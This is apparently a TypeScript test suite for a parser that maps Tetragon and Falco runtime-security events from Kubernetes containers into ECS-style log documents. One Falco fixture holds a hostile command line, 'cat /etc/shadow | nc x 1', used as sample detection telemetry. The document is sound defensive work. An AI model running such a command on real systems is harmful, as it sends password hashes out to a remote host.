import assert from 'node:assert/strict';
import { test } from 'node:test';
import * as fc from 'fast-check';
import type { JsonObject } from '../../data/document.ts';
import { accountOf, documentsOf, lines, part, readBytes } from '../../../tests/support/ingest.ts';
import { splitFalco, splitTetragon } from './arguments.ts';
import { imageOf } from './process.ts';

const pod = {
  namespace: 'shop',
  name: 'cart-7c9d',
  workload: 'cart',
  workload_kind: 'Deployment',
  pod_labels: { app: 'cart' },
  container: {
    id: 'containerd://551e16',
    name: 'cart',
    image: { name: 'registry.example:5000/shop/cart:1.8.2' },
    security_context: { privileged: true },
  },
};

const shell = {
  exec_id: 'parent',
  pid: 9,
  uid: 0,
  binary: '/bin/bash',
  flags: 'execve',
  pod,
  docker: '551e16',
};

const exec = (process: JsonObject, parent: JsonObject | undefined = shell): JsonObject => ({
  process_exec: {
    process: {
      exec_id: 'me',
      pid: 10,
      uid: 0,
      cwd: '/app',
      binary: '/usr/bin/curl',
      arguments: '-H "X-A: b c" http://x',
      flags: 'execve clone',
      start_time: '2026-03-02T10:11:12.130Z',
      auid: 4294967295,
      cap: { permitted: ['CAP_CHOWN', 'DAC_OVERRIDE'] },
      pod,
      docker: '551e16',
      parent_exec_id: 'parent',
      ...process,
    },
    ...(parent === undefined ? {} : { parent }),
  },
  node_name: 'node-a',
  time: '2026-03-02T10:11:12.131Z',
});

const processDocument = {
  '@timestamp': '2026-03-02T10:11:12.131Z',
  data_stream: { type: 'logs', dataset: 'cloud_defend.process', namespace: 'default' },
  ecs: { version: '8.11.0' },
  event: {
    kind: 'event',
    module: 'cloud_defend',
    dataset: 'cloud_defend.process',
    category: ['process'],
    type: ['start'],
    action: 'exec',
  },
  agent: { type: 'tetragon' },
  host: { name: 'node-a', hostname: 'node-a', os: { type: 'linux' } },
  user: { id: '0' },
  process: {
    entity_id: 'me',
    pid: 10,
    name: 'curl',
    executable: '/usr/bin/curl',
    args: ['curl', '-H', 'X-A: b c', 'http://x'],
    args_count: 4,
    command_line: '/usr/bin/curl -H "X-A: b c" http://x',
    working_directory: '/app',
    start: '2026-03-02T10:11:12.130Z',
    user: { id: '0' },
    thread: { capabilities: { permitted: ['CAP_CHOWN', 'CAP_DAC_OVERRIDE'] } },
    parent: {
      entity_id: 'parent',
      pid: 9,
      name: 'bash',
      executable: '/bin/bash',
      args: ['bash'],
      args_count: 1,
      command_line: '/bin/bash',
      user: { id: '0' },
    },
    entry_leader: { same_as_process: false, entry_meta: { type: 'container' } },
  },
  container: {
    id: '551e16',
    name: 'cart',
    image: { name: 'registry.example:5000/shop/cart', tag: ['1.8.2'] },
    security_context: { privileged: true },
  },
  orchestrator: {
    type: 'kubernetes',
    namespace: 'shop',
    resource: {
      type: 'pod',
      name: 'cart-7c9d',
      parent: { type: 'Deployment', name: 'cart' },
      label: ['app:cart'],
    },
    cluster: { name: 'prod' },
  },
};

test('Tetragon: a process starts (kubernetes §4.2)', () => {
  assert.deepEqual(documentsOf(exec({}), { cluster: 'prod' }), [processDocument]);
});

test('Tetragon: the first process of a container is its entry leader', () => {
  const [document] = documentsOf(exec({}, { exec_id: 'shim', pid: 1, binary: '/usr/bin/containerd-shim' }));
  assert.deepEqual(part(document, 'process').entry_leader, {
    same_as_process: true,
    entry_meta: { type: 'container' },
    entity_id: 'me',
    pid: 10,
    name: 'curl',
  });
});

test('Tetragon: a process of the host has no container and no entry leader', () => {
  const host = { pod: undefined, docker: undefined };
  const [document] = documentsOf(exec(host, { ...shell, ...host }));
  assert.deepEqual([document?.container, part(document, 'process').entry_leader], [undefined, undefined]);
});

test('Tetragon: a process ends', () => {
  const { process_exec: body, ...rest } = exec({});
  const [document] = documentsOf({
    process_exit: { ...(body as JsonObject), status: 137, signal: 'SIGKILL' },
    ...rest,
  });
  const { type, action } = part(document, 'event');
  const { end, exit_code } = part(document, 'process');
  assert.deepEqual([type, action, end, exit_code], [['end'], 'end', '2026-03-02T10:11:12.131Z', 137]);
});

const onFile = (kind: string, name: string, args: readonly JsonObject[]): JsonObject => {
  const { process_exec: body, ...rest } = exec({});
  return { [kind]: { ...(body as JsonObject), function_name: name, args }, ...rest };
};

const file = [{ file_arg: { path: '/etc/cron.d/job.sh' } }];

const fileRows: readonly (readonly [
  kind: string,
  name: string,
  args: readonly JsonObject[],
  expected: readonly unknown[],
])[] = [
  ['process_kprobe', 'security_path_unlink', file, ['deletion', 'deletion', undefined]],
  ['process_kprobe', 'security_path_rename', file, ['change', 'rename', undefined]],
  ['process_kprobe', 'security_path_truncate', file, ['change', 'modification', undefined]],
  ['process_kprobe', 'security_inode_create', file, ['creation', 'creation', undefined]],
  [
    'process_kprobe',
    'security_file_permission',
    [...file, { int_arg: 2 }],
    ['change', 'modification', 'write'],
  ],
  ['process_kprobe', 'security_file_permission', [...file, { int_arg: 4 }], ['change', 'open', 'read']],
  ['process_kprobe', 'security_file_permission', [...file, { int_arg: 0 }], ['change', 'open', undefined]],
  ['process_lsm', 'file_open', [{ path_arg: { path: '/etc/cron.d/job.sh' } }], ['change', 'open', undefined]],
];

for (const [kind, name, args, expected] of fileRows) {
  test(`Tetragon: ${name} with ${JSON.stringify(args.at(-1))}`, () => {
    const [document] = documentsOf(onFile(kind, name, args));
    const { type, action, dataset } = part(document, 'event');
    const access = (document?.winnow as JsonObject | undefined)?.file_access;
    assert.deepEqual([(type as string[])[0], action, access], expected);
    assert.equal(dataset, 'cloud_defend.file');
    assert.deepEqual(document?.file, { path: '/etc/cron.d/job.sh', name: 'job.sh', extension: 'sh' });
  });
}

test('Tetragon: what is neither process nor file, and the inventory at start, is left out and counted', () => {
  const text = lines(
    exec({ flags: 'procFS auid' }),
    onFile('process_kprobe', 'tcp_connect', [{ sock_arg: {} }]),
    onFile('process_kprobe', 'constructor', file),
    { process_throttle: { type: 'THROTTLE_START' }, node_name: 'n', time: 't' },
  );
  assert.deepEqual(accountOf(readBytes(text)).skipped, {
    'Tetragon procFS inventory': 1,
    'Tetragon event that is neither process nor file': 3,
  });
});

test('Tetragon: arguments come back as far as they can', () => {
  const rows: readonly (readonly [string, readonly string[]])[] = [
    ['', []],
    ['-c "id; whoami" x', ['-c', 'id; whoami', 'x']],
    ['-c "echo "hi there" now"', ['-c', 'echo "hi there', 'now"']],
    ['say "quoted"', ['say', '"quoted"']],
    ['"no end here', ['"no', 'end', 'here']],
    ['a  b', ['a', 'b']],
    ['"', ['"']],
  ];
  for (const [text, expected] of rows) assert.deepEqual(splitTetragon(text), expected, text);
  const word = fc.stringMatching(/^[a-z][a-z ]{0,8}[a-z]$/);
  const joined = (list: readonly string[]) =>
    list.map((item) => (item.includes(' ') ? `"${item}"` : item)).join(' ');
  fc.assert(fc.property(fc.array(word), (list) => assert.deepEqual(splitTetragon(joined(list)), list)));
});

test('Tetragon: a script repeats its path, which counts once', () => {
  const [document] = documentsOf(exec({ binary: '/app/run.sh', arguments: '/app/run.sh --now' }));
  assert.deepEqual(part(document, 'process').args, ['run.sh', '--now']);
});

const fields = {
  'evt.type': 'execve',
  'proc.name': 'sh',
  'proc.exepath': '/bin/busybox',
  'proc.exe': '/bin/sh',
  'proc.args': '-c cat /etc/shadow | nc x 1',
  'proc.cmdline': 'sh -c cat /etc/shadow | nc x 1',
  'proc.cwd': '/',
  'proc.tty': 34816,
  'proc.pid': 77,
  'proc.pid.ts': 177244234301234,
  'proc.pname': 'runc',
  'proc.ppid': 70,
  'user.uid': 0,
  'user.name': 'root',
  'container.id': 'ee97d9c4186f',
  'container.name': 'kubecon',
  'container.image.repository': 'docker.io/library/alpine',
  'container.image.tag': '3.20',
  'container.privileged': false,
  'k8s.ns.name': 'default',
  'k8s.pod.name': 'kubecon',
  'proc.env': null,
};

const alert = (changes: JsonObject = {}, rest: JsonObject = {}): JsonObject => ({
  hostname: 'node-b',
  output: 'x',
  priority: 'Notice',
  rule: 'all processes',
  source: 'syscall',
  time: '2026-03-02T09:05:43.012345678Z',
  output_fields: { ...fields, ...changes },
  ...rest,
});

test('Falco: a process starts (kubernetes §4.3)', () => {
  assert.deepEqual(documentsOf(alert()), [
    {
      '@timestamp': '2026-03-02T09:05:43.012345678Z',
      data_stream: { type: 'logs', dataset: 'cloud_defend.process', namespace: 'default' },
      ecs: { version: '8.11.0' },
      event: {
        kind: 'event',
        module: 'cloud_defend',
        dataset: 'cloud_defend.process',
        category: ['process'],
        type: ['start'],
        action: 'exec',
      },
      agent: { type: 'falco' },
      rule: { name: 'all processes' },
      host: { name: 'node-b', hostname: 'node-b', os: { type: 'linux' } },
      user: { id: '0', name: 'root' },
      process: {
        name: 'sh',
        executable: '/bin/busybox',
        args: ['/bin/sh', '-c', 'cat /etc/shadow | nc x 1'],
        args_count: 3,
        command_line: 'sh -c cat /etc/shadow | nc x 1',
        pid: 77,
        entity_id: 'node-b:77:177244234301234',
        working_directory: '/',
        interactive: true,
        parent: { name: 'runc', pid: 70 },
        entry_leader: { same_as_process: true, entry_meta: { type: 'container' } },
      },
      container: {
        id: 'ee97d9c4186f',
        name: 'kubecon',
        image: { name: 'docker.io/library/alpine', tag: ['3.20'] },
        security_context: { privileged: false },
      },
      orchestrator: { type: 'kubernetes', namespace: 'default', resource: { type: 'pod', name: 'kubecon' } },
    },
  ]);
});

test('Falco: single arguments are better than the joined text', () => {
  const [document] = documentsOf(
    alert({ 'proc.args[1]': 'echo a b', 'proc.args[0]': '-c', 'proc.args[10]': 'z', 'proc.args[2]': null }),
  );
  assert.deepEqual(part(document, 'process').args, ['/bin/sh', '-c', 'echo a b', 'z']);
});

test('Falco: what is not told stays absent', () => {
  const [document] = documentsOf({ rule: 'r', source: 'syscall', output_fields: { 'proc.name': 'ls' } });
  assert.deepEqual(document?.process, { name: 'ls', args: ['ls'], args_count: 1 });
  assert.deepEqual(
    [document?.container, document?.orchestrator, document?.user, document?.['@timestamp']],
    [undefined, undefined, undefined, undefined],
  );
});

const calls: readonly (readonly [JsonObject, readonly unknown[] | string])[] = [
  [{ 'evt.type': 'clone3' }, ['process', 'start', 'fork']],
  [
    { 'evt.type': 'openat', 'fd.name': '/a/b.c', 'evt.arg.flags': 'O_WRONLY|O_CREAT' },
    ['file', 'creation', 'creation'],
  ],
  [{ 'evt.type': 'openat', 'fd.name': '/a/b.c', 'evt.arg.flags': 'O_RDONLY' }, ['file', 'change', 'open']],
  [{ 'evt.type': 'unlinkat', 'fd.name': '/a/b.c' }, ['file', 'deletion', 'deletion']],
  [{ 'evt.type': 'renameat2', 'fd.name': '/a/b.c' }, ['file', 'change', 'rename']],
  [{ 'evt.type': 'connect', 'fd.name': '1.2.3.4:5' }, 'Falco alert that is neither process nor file'],
  [{ 'proc.name': undefined }, 'Falco alert that is neither process nor file'],
];

for (const [changes, expected] of calls) {
  test(`Falco: ${JSON.stringify(changes)}`, () => {
    const { events, skipped } = readBytes(lines(alert(changes)));
    const event = events[0]?.document.event as JsonObject | undefined;
    const found = event && [(event.category as string[])[0], (event.type as string[])[0], event.action];
    assert.deepEqual(found ?? [...skipped.keys()][0], expected);
  });
}

test('Falco: alerts about audit events are not about processes', () => {
  const { skipped } = readBytes(lines(alert({}, { source: 'k8s_audit' })));
  assert.deepEqual(Object.fromEntries(skipped), { 'Falco alert that is neither process nor file': 1 });
});

test('Falco: only shells keep a script in one piece', () => {
  assert.deepEqual(splitFalco('-c a b', 'nc'), ['-c', 'a', 'b']);
  assert.deepEqual(splitFalco('-ec "a  b" c', 'bash'), ['-ec', '"a  b" c']);
  assert.deepEqual(splitFalco('-x run.sh', 'bash'), ['-x', 'run.sh']);
});

test('images are taken apart at the tag, not at the port', () => {
  assert.deepEqual(imageOf('registry:5000/a/b'), { name: 'registry:5000/a/b' });
  assert.deepEqual(imageOf('registry:5000/a/b:1@sha256:00'), { name: 'registry:5000/a/b', tag: ['1'] });
  assert.deepEqual(imageOf('a@sha256:00'), { name: 'a' });
});
